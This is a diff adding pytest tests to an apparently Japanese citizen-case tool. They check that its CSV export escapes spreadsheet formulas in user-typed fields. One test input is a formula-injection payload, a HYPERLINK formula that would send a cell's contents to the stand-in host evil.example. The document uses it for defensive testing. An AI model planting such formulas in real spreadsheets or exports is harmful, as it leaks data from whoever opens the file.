@@ -9,6 +9,8 @@ import sys
 from datetime import timedelta
 from pathlib import Path
 
+import pytest
+
 from bot.sandbox.fake_line import FakeLine
 from storage import Database
 from storage.cases import NewCase
@@ -107,3 +109,35 @@ async def test_an_unwritable_output_is_a_clear_error(tmp_path: Path, line: FakeL
     )
     assert status == 2
     assert err.startswith("error: cannot write") and "Traceback" not in err
+
+
+async def one_case(path: Path, text: str) -> None:
+    """A case whose name, organisation, body and preferred dates are all `text`, as a citizen typed it."""
+    db = await Database.open(path)
+    try:
+        async with db.transaction() as tx:
+            await tx.cases.create(
+                NewCase(None, "general", "団体", text, "line", text, organisation=text, preferred_dates=text),
+                NOW, 2026,
+            )  # fmt: skip
+    finally:
+        await db.close()
+
+
+@pytest.mark.parametrize(
+    "text",
+    ['=HYPERLINK("http://evil.example/?"&B2,"詳細")', "+81-90-1234-5678", "-1", "@SUM(1)", "\t=1", "\r=1"],
+)
+async def test_citizen_text_is_never_a_formula_in_a_spreadsheet(
+    tmp_path: Path, line: FakeLine, text: str
+) -> None:
+    config = write_config(tmp_path, line.base_url)
+    await one_case(tmp_path / "madoguchi.sqlite3", text)
+    output = tmp_path / "cases.csv"
+    status, _, err = await madoguchi("cases", "export", "--config", str(config), "--output", str(output))
+    assert status == 0, err
+    rows = list(csv.reader(io.StringIO(output.read_bytes().decode("utf-8-sig"), newline="")))
+    case = dict(zip(COLUMNS, rows[1], strict=True))
+    # The leading ' makes Excel show the text as typed instead of running it.
+    assert [case[c] for c in ("団体名", "氏名", "相談内容", "希望日時")] == [f"'{text}"] * 4
+    assert case["受付番号"] == "2026-0001" and case["受付日時"] == "2026-11-30 10:00"  # ours stay as they are
